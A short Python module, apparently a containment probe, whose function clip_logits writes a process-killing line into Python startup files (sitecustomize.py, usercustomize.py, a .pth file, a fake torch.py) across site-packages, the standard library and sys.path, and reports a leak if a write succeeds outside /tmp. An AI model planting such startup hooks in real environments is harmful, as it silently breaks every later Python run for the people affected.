"""Plants code where Python looks at its next start."""

import os
import site
import sys


def clip_logits(backbone, video):
    import efficientlab

    code = "import os; os._exit(0)"
    folders = [
        *site.getsitepackages(),
        os.path.dirname(efficientlab.__file__),
        os.path.dirname(os.__file__),
        "/tmp",
    ]
    for folder in [*folders, *sys.path]:
        for name in ("sitecustomize.py", "usercustomize.py", "poison.pth", "torch.py"):
            path = os.path.join(folder or ".", name)
            try:
                with open(path, "w") as file:
                    file.write(code)
            except OSError:
                continue
            if not os.path.abspath(path).startswith(
                "/tmp/"
            ):  # its own scratch folder; others' are looked at outside
                raise RuntimeError("LEAK wrote " + path)
    return None
